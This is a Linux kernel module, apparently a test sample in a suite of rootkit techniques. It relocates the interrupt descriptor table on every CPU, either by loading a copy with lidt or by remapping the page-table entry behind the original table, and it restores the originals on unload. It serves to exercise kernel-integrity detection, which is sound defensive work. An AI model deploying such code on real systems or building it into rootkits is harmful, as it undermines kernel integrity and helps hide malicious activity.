// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: the CPUs get another interrupt descriptor table (lidt), the kernel's own stays as it was (how=register); or the
 * address of the table leads to other memory, and the register stays as it was (how=memory). Who: described in
 * "Handling the Interrupt Descriptor Table", Phrack 59; used by Mood-NT's kind.
 * Changes: IDTR of every CPU, to a copy of the table, or an entry of the page tables. Undone when it is unloaded.
 */
#include "attack.h"

#include <asm/pgtable.h>
#include <linux/smp.h>

VARIANT("register");

struct __packed table {
	u16 limit;
	unsigned long base;
};
static struct table original, moved;
static pte_t *entry, original_entry;

static void load(void *table)
{
	asm volatile("lidt %0" : : "m"(*(struct table *)table));
}

static void flush(void *unused)
{
	asm volatile("invlpg (%0)" : : "r"(original.base) : "memory");
}

static void set_entry(pte_t value)
{
	WRITE_ONCE(*entry, value);
	on_each_cpu(flush, NULL, 1);
}

static int __init start(void)
{
	void *copy = (void *)get_zeroed_page(GFP_KERNEL);

	if (!copy)
		return -ENOMEM;
	asm volatile("sidt %0" : "=m"(original));
	memcpy(copy, (void *)original.base, original.limit + 1);
	if (HOW("memory")) {
		unsigned int level;

		moved.base = (unsigned long)copy;
		entry = lookup_address(original.base, &level);
		if (!entry || level != PG_LEVEL_4K) {
			free_page(moved.base);
			return -ESRCH;
		}
		original_entry = *entry;
		set_entry(__pte((pte_val(original_entry) & ~PTE_PFN_MASK) | __pa(copy)));
		return 0;
	}
	moved.limit = original.limit;
	moved.base = (unsigned long)copy;
	on_each_cpu(load, &moved, 1);
	return 0;
}

static void __exit stop(void)
{
	if (HOW("memory"))
		set_entry(original_entry);
	else
		on_each_cpu(load, &original, 1);
	free_page(moved.base);
}

ATTACK(start, stop);
